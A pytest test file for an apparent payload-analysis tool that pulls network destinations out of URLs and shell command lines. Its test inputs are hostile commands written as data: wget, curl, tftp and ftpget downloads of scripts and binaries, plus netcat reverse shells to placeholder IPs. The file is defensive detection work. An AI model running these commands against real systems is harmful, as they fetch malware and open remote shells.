"""Destinations: hosts normalised, default ports by scheme, only what the payload contacts."""

from __future__ import annotations

import pytest

from dropscan.detect.egress import Destination, from_argv, from_url, normalise_host


@pytest.mark.parametrize(
    ("raw", "want"),
    [
        ("EVIL.Example.", ("evil.example", False)),
        ("[2001:DB8::5]", ("2001:db8::5", True)),
        ("203.0.113.9", ("203.0.113.9", True)),
        ("0xcb007109", ("203.0.113.9", True)),
        ("3405803785", ("203.0.113.9", True)),
        ("0313.0.0161.011", ("203.0.113.9", True)),
        ("$ip", None),
        ("{{host}}", None),
        ("x", None),
    ],
)
def test_normalise_host(raw, want):
    assert normalise_host(raw) == want


@pytest.mark.parametrize(
    ("url", "scheme", "port"),
    [
        ("http://h.example/x", "http", 80),
        ("https://h.example/x", "https", 443),
        ("ftp://h.example/x", "ftp", 21),
        ("tftp://h.example/x", "tftp", 69),
        ("ldap://h.example/a", "ldap", 389),
        ("ldaps://h.example/a", "ldaps", 636),
        ("rmi://h.example/a", "rmi", 1099),
        ("dns://h.example/a", "dns", 53),
        ("http://h.example:8080/x", "http", 8080),
    ],
)
def test_default_ports(url, scheme, port):
    d = from_url(url)
    assert (d.host, d.scheme, d.port) == ("h.example", scheme, port)


def test_bare_host_means_http():
    d = from_url("x6arch.ml/jaws", "http")
    assert d == Destination("x6arch.ml", 80, "http", False, "http://x6arch.ml/jaws")
    assert from_url("203.0.113.9:8080/x", "http").port == 8080
    assert from_url("/tmp/x", "http") is None


def test_ipv6_url():
    d = from_url("http://[2001:db8::5]:8000/x")
    assert (d.host, d.port, d.ip_literal) == ("2001:db8::5", 8000, True)


def test_unc_path_is_smb():
    d = from_url("\\\\198.51.100.34\\share\\f.sct", None)
    assert (d.host, d.port, d.scheme) == ("198.51.100.34", 445, "smb")


@pytest.mark.parametrize(
    ("tool", "args", "want"),
    [
        ("wget", " -O /tmp/x.sh http://203.0.113.9/x.sh", ["203.0.113.9:80"]),
        ("wget", " -qO- 203.0.113.9/x", ["203.0.113.9:80"]),
        ("wget", " -O x.sh http://h.example/y", ["h.example:80"]),  # x.sh is -O's value, not a host
        ("curl", " -s -o /tmp/m http://203.0.113.5:8080/bins/mips", ["203.0.113.5:8080"]),
        ("curl", " -A Mozilla -H X:1 https://h.example/x", ["h.example:443"]),
        ("busybox", " wget http://h.example/x", ["h.example:80"]),
        ("nc", " -e /bin/sh 203.0.113.20 4444", ["203.0.113.20:4444"]),
        ("nc", " -u 203.0.113.20 53 -e /bin/sh", ["203.0.113.20:53"]),
        ("nc", " -lvp 4444 -e /bin/sh", []),
        ("tftp", " -g -r mips 203.0.113.44", ["203.0.113.44:69"]),
        ("tftp", " -l x -r x -g 198.51.100.4 6969", ["198.51.100.4:6969"]),
        ("ftpget", " -u a -p b -P 2121 198.51.100.77 x x", ["198.51.100.77:2121"]),
    ],
)
def test_argv(tool, args, want):
    assert [f"{d.host}:{d.port}" for d in from_argv(tool, args, "http")] == want


def test_nc_udp_scheme():
    assert from_argv("nc", " -u 203.0.113.20 53 -e /bin/sh", None)[0].scheme == "udp"


def test_a_host_that_is_only_a_zone_id_is_no_destination():
    # found by tests/test_fuzz.py: '%' alone after the scheme left an empty host, and h[0] raised
    assert normalise_host("%%") is None and normalise_host("[%eth0]") is None
    assert normalise_host("fe80::1%eth0") == ("fe80::1", True)
